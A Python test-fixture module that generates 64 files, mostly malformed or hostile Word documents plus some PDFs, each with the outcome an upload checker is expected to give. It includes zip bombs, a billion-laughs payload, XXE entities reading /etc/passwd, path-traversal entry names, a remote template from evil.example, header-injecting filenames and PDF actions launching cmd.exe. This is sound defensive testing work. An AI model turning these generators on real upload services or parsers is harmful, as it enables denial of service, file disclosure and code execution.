"""64 files, made when asked for, and what must come of each where a Word document is wanted."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from docx import Document

TAKEN, REFUSED = "taken", "refused"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT, TYPES = "word/document.xml", "[Content_Types].xml"
RELS = "word/_rels/document.xml.rels"
MB = 1024 * 1024


class File(NamedTuple):
    """A file to hand in: its name as a browser sends it, its bytes, and whether it is taken."""

    id: str
    name: str
    content: Callable[[], bytes]
    outcome: str


# --- making them ------------------------------------------------------------------------------


def word() -> dict[str, bytes]:
    """The parts of a small, good Word document."""
    document = Document()
    document.add_heading("Agreement", 0)
    document.add_paragraph("1. Share when it is right.")
    out = io.BytesIO()
    document.save(out)
    with zipfile.ZipFile(out) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts, method=zipfile.ZIP_DEFLATED, more=()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as package, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of the same name twice
        for name, content in [*parts.items(), *more]:
            package.writestr(name, content)
    return out.getvalue()


def docx(**changes) -> bytes:
    """A good document with some parts other: names by __ for / and the usual short ones."""
    return packed(word() | changes)


def changed(part, change) -> bytes:
    parts = word()
    return packed(parts | {part: change(parts[part])})


def typed(old, new):
    return lambda: changed(TYPES, lambda types: types.replace(old, new))


def with_parts(more):
    return lambda: packed(word() | more)


def with_body(xml, before=b""):
    start = f'<w:document xmlns:w="{W}"><w:body>'.encode()
    text = b'<?xml version="1.0" encoding="UTF-8"?>' + before + start + xml
    text += b"</w:body></w:document>"
    return lambda: packed(word() | {DOCUMENT: text})


def related(kind, target, mode=b' TargetMode="External"', encode=bytes):
    """With one more relationship of the document."""

    def made():
        one = b'<Relationship Id="rId999" Type="%s/%s" Target="%s"%s/>' % (
            OFFICE.encode(), kind, target, mode,
        )  # fmt: skip
        end = b"</Relationships>"
        return changed(RELS, lambda rels: encode(rels.replace(end, one + end)))

    return made


def as_utf16(xml):
    return xml.decode().replace("UTF-8", "UTF-16").encode("utf-16")


def cut(content, keep):
    return lambda: content()[: int(len(content()) * keep)]


def good():
    return packed(word())


def tampered(offset_of, value, every=False):
    """The package with bytes changed in its directory of contents."""

    def made():
        data = bytearray(good())
        at = data.find(b"PK\x01\x02")
        while at >= 0:
            data[at + offset_of : at + offset_of + len(value)] = value
            at = data.find(b"PK\x01\x02", at + 4) if every else -1
        return bytes(data)

    return made


def wrong_sum():
    """A package whose document was damaged on the way: its check sum no longer fits."""
    data = bytearray(packed(word(), zipfile.ZIP_STORED))
    at = data.find(b"Share when it is right")
    data[at : at + 5] = b"shARE"
    return bytes(data)


def lying_bomb():
    """Says that it unpacks to 100 bytes, and holds 60 MB."""
    big = zlib.compress(b"\0" * 60 * MB, 9)[2:-4]
    name = DOCUMENT.encode()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(big), 100, len(name), 0)
    central = struct.pack(
        "<4s6H3L5H2L",
        b"PK\x01\x02",
        20,
        20,
        0,
        8,
        0,
        0,
        0,
        len(big),
        100,
        len(name),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    body = local + name + big
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(name), len(body), 0)
    return body + central + name + end


def shared_body():
    """300 names for one and the same bytes."""
    parts = word()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
        package.writestr("word/x.xml", b"\0" * MB)
        info = package.filelist[-1]
        for n in range(300):
            twin = zipfile.ZipInfo(f"word/x{n:04}.xml")
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(twin, field, getattr(info, field))
            package.filelist.append(twin)
            package.NameToInfo[twin.filename] = twin
    return out.getvalue()


def pdf(objects, before=b"%PDF-1.7\n", xref=True):
    """A small PDF of these objects; the first is the catalogue."""
    body, places = before, []
    for n, one in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (n, one)
    start = len(body)
    if xref:
        body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        body += b"".join(b"%010d 00000 n \n" % place for place in places)
    prev = b"/Prev %d" % start if xref is None else b""
    return body + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, prev, start,
    )  # fmt: skip


def page_pdf(catalogue=b""):
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        ]
    )


def old_word(encrypted=False):
    """The beginning of an OLE file, as old Word and password protection write it."""
    stream = "EncryptedPackage" if encrypted else "WordDocument"
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + stream.encode("utf-16-le") + b"\0" * 480
    )


MAIN = b"wordprocessingml.document.main+xml"
MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_MAIN = b"application/vnd.openxmlformats-officedocument." + MAIN
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PARAGRAPH = b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>"


def a(id, content, outcome=REFUSED, name="agreement.docx"):
    return File(id, name, content, outcome)


FILES = [
    # what people mean to send
    a("F01 good", good, TAKEN),
    a("F02 a link to a page", related(b"hyperlink", b"https://kmip.example/"), TAKEN),
    a("F03 a name in Welsh and emoji", good, TAKEN, "Cytundeb rhannu gwybodaeth – tŷ 👍.docx"),
    a("F04 a name of 190 letters", good, TAKEN, "n" * 185 + ".docx"),
    a("F05 capitals", good, TAKEN, "AGREEMENT.DOCX"),
    # something else under this name
    a("F06 empty", lambda: b""),
    a("F07 one byte", lambda: b"P"),
    a("F08 PDF", page_pdf),
    a("F09 HTML", lambda: b"<!doctype html><script>alert(1)</script>"),
    a("F10 old Word", old_word),
    a("F11 with a password", lambda: old_word(encrypted=True)),
    a("F12 picture", lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100),
    a("F13 zip of something", lambda: packed({"a.txt": b"x"})),
    a("F14 spreadsheet", typed(MAIN, b"spreadsheetml.sheet.main+xml")),
    a("F15 Word template", typed(MAIN, b"wordprocessingml.template.main+xml")),
    a("F16 with macros by its type", typed(PLAIN_MAIN, MACROS)),
    a("F17 with macros inside", with_parts({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})),
    a("F18 with macros in capitals", with_parts({"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0macro"})),
    a("F19 the test virus", lambda: EICAR),
    a(
        "F20 SVG with a script",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ),
    # damaged
    a("F21 cut in half", cut(good, 0.5)),
    a("F22 without its last bytes", cut(good, 0.99)),
    a("F23 damaged inside", wrong_sum),
    a("F24 zip of zeros", lambda: b"PK\x05\x06" + b"\0" * 18),
    a("F25 encrypted by its flag", tampered(8, b"\x01\x00", every=True)),
    a("F26 an unknown packing", tampered(10, b"\x63\x00", every=True)),
    a("F27 parts that are not where it says", tampered(42, b"\xff\xff\xff\x7f")),
    a("F28 no list of types", lambda: packed({n: c for n, c in word().items() if n != TYPES})),
    a("F29 no document", lambda: packed({n: c for n, c in word().items() if n != DOCUMENT})),
    a("F30 the document is no XML", with_parts({DOCUMENT: b"\0\1\2 not xml"})),
    # two things at once
    a("F31 HTML, then a document", lambda: b"<script>alert(1)</script>" + good()),
    a("F32 PDF, then a document", lambda: page_pdf() + good()),
    a("F33 a document, then 1 MB of something", lambda: good() + b"MZ" + b"\0" * MB),
    # too much
    a("F34 unpacks to 60 MB", with_body(b" " * 60 * MB)),
    a("F35 unpacks to more than it says", lying_bomb),
    a("F36 1,000 parts", with_parts({f"word/p{n}.xml": b"<a/>" for n in range(1_000)})),
    a("F37 300 names for the same bytes", shared_body),
    a("F38 zips in zips", with_parts({"word/embeddings/a.zip": packed({"b.zip": good()})})),
    a("F39 26 MB", lambda: packed(word() | {"word/a.bin": bytes(range(256)) * 4 * 1024 * 26}, 0)),
    a("F40 a billion laughs", with_body(b"&l9;", b'<!DOCTYPE d [<!ENTITY l0 "ha">%s]>' % LAUGHS)),
    a("F41 100,000 elements deep", with_body(b"<w:p>" * 100_000 + b"</w:p>" * 100_000)),
    # names inside
    a("F42 up and away", with_parts({"../../../etc/cron.d/x": b"x"})),
    a("F43 from the root", with_parts({"/etc/cron.d/x": b"x"})),
    a("F44 backslashes", with_parts({"..\\..\\x.exe": b"x"})),
    a("F45 the document twice", lambda: packed(word(), more=[(DOCUMENT, b"<other/>")])),
    # reaching outside
    a("F46 template from elsewhere", related(b"attachedTemplate", b"http://evil.example/t.dotm")),
    a("F47 picture from elsewhere", related(b"image", b"http://127.0.0.1:9/x.png")),
    a("F48 frame from elsewhere", related(b"frame", b"file:///etc/passwd")),
    a(
        "F49 by single quotes",
        related(b"image", b"http://evil.example/", b" TargetMode = 'External'"),
    ),
    a("F50 in another encoding", related(b"image", b"http://evil.example/", encode=as_utf16)),
    a(
        "F51 a page inside",
        with_parts({"word/embeddings/chunk.html": b"<script>alert(1)</script>"}),
    ),
    a("F52 a program inside", with_parts({"word/embeddings/oleObject1.bin": b"MZ\x90\0"})),
    a("F53 a control inside", with_parts({"word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0"})),
    a(
        "F54 XXE from a file",
        with_body(b"&x;", b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ),
    a("F55 XXE from the web", with_body(b"", b'<!DOCTYPE d SYSTEM "http://127.0.0.1:9/x.dtd">')),
    # its own name
    a("F56 a name that is a path", good, TAKEN, "../../etc/agreement.docx"),
    a("F57 a name with a line end", good, REFUSED, "a\r\nSet-Cookie: x.docx"),
    a("F58 a name turned round", good, REFUSED, "agreement\u202excod.exe"),
    a("F59 a name of two kinds", good, REFUSED, "agreement.docx.exe"),
    a("F60 a name of 5,000 letters", good, REFUSED, "n" * 5_000 + ".docx"),
    # what a PDF may hide, for where PDFs are taken
    a(
        "F61 PDF with a script",
        lambda: page_pdf(b"/OpenAction<</S/JavaScript/JS(app.alert)>>"),
        name="s.pdf",
    ),
    a(
        "F62 PDF that starts a program",
        lambda: page_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        name="s.pdf",
    ),
    a("F63 PDF with a password", lambda: page_pdf(b"/Encrypt 3 0 R"), name="s.pdf"),
    a(
        "F64 PDF that turns in circles",
        lambda: pdf([b"<</Type/Catalog/Pages 1 0 R>>"], xref=None),
        name="s.pdf",
    ),
]
